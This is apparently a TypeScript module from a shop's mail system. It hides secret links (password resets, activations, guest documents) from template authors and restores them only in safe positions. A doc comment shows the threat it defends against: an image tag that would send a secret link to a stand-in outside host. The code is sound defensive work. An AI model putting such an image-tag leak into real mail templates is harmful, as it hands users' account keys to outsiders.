import { randomUUID } from 'node:crypto'
import { htmlWithLinks, type Links, textWithLinks } from './mail-links.ts'

/**
 * Links with a key (a new password, an activation, a guest's documents) are hidden from the templates of
 * mails: the author of a template could send the key elsewhere, as `<img src="https://elsewhere/?{{ link
 * }}">` does. Templates get a random address instead. After rendering, the link replaces it where it is a
 * whole word or the whole address of a link, and nowhere else.
 */
export interface SecretLinks {
  /** The data of the mail with random addresses in place of secret links. */
  readonly data: Readonly<Record<string, unknown>>
  /** Removes all of them from a rendered line. */
  readonly inLine: (printed: string) => string
  /** Inserts the links into rendered text, where they are whole words. */
  readonly inText: (printed: string) => string
  /** Inserts the links into HTML, where they are whole words or the whole `href` of an `<a>`. */
  readonly inHtml: (printed: string) => string
  /** Returns whether a link was left out so far, because it was in another place. */
  readonly isMisplaced: () => boolean
}

/** Hides the secret links of a mail's data: addresses of the shop with a key, anywhere in the data. */
export const secretLinks = (data: SecretLinks['data'], baseUrl: string): SecretLinks => {
  const { origin } = new URL(baseUrl)
  const marks = new Map<string, string>()
  const hide = (address: string): string => {
    if (!address.startsWith(`${origin}/`) || !hasKey(address)) return address
    // In data that is HTML already, addresses are escaped.
    const link = address.replaceAll('&amp;', '&')
    const mark = marks.get(link) ?? randomUUID()
    marks.set(link, mark)
    return `${origin}/${mark}`
  }
  const hidden = Object.fromEntries(
    Object.entries(data).map(([name, value]) => [
      name,
      withTexts(value, (text) => text.replace(ADDRESS, hide)),
    ]),
  )
  if (marks.size === 0) return NONE(data)
  const links: Links = new Map([...marks].map(([link, mark]) => [`${origin}/${mark}`, link]))
  // In any spelling, and with any remaining part of the address before it.
  const leftOver = new RegExp(`(?:https?://[^\\s/]*/)?(?:${[...marks.values()].join('|')})`, 'gi')
  let isMisplaced = false
  const withoutRest = (printed: string): string =>
    printed.replace(leftOver, () => {
      isMisplaced = true
      return ''
    })
  return {
    data: hidden,
    inLine: withoutRest,
    inText: (printed) => withoutRest(textWithLinks(printed, links)),
    inHtml: (printed) => withoutRest(htmlWithLinks(printed, links)),
    isMisplaced: () => isMisplaced,
  }
}

/** An address in a text. */
export const ADDRESS = /https?:\/\/[^\s"'<>]+/g

/** True if an address has an input whose name means that it opens something. */
const hasKey = (address: string): boolean =>
  (address.split('?')[1] ?? '')
    .split('&')
    .some((input) => /key|token|secret/i.test(input.split('=')[0] ?? ''))

const asPrinted = (printed: string): string => printed

/** For a mail without secret links. */
const NONE = (data: SecretLinks['data']): SecretLinks => ({
  data,
  inLine: asPrinted,
  inText: asPrinted,
  inHtml: asPrinted,
  isMisplaced: () => false,
})

/** Returns data with each of its texts changed. */
export const withTexts = (value: unknown, change: (text: string) => string): unknown => {
  if (typeof value === 'string') return change(value)
  if (Array.isArray(value)) return value.map((one) => withTexts(one, change))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, withTexts(one, change)]))
}
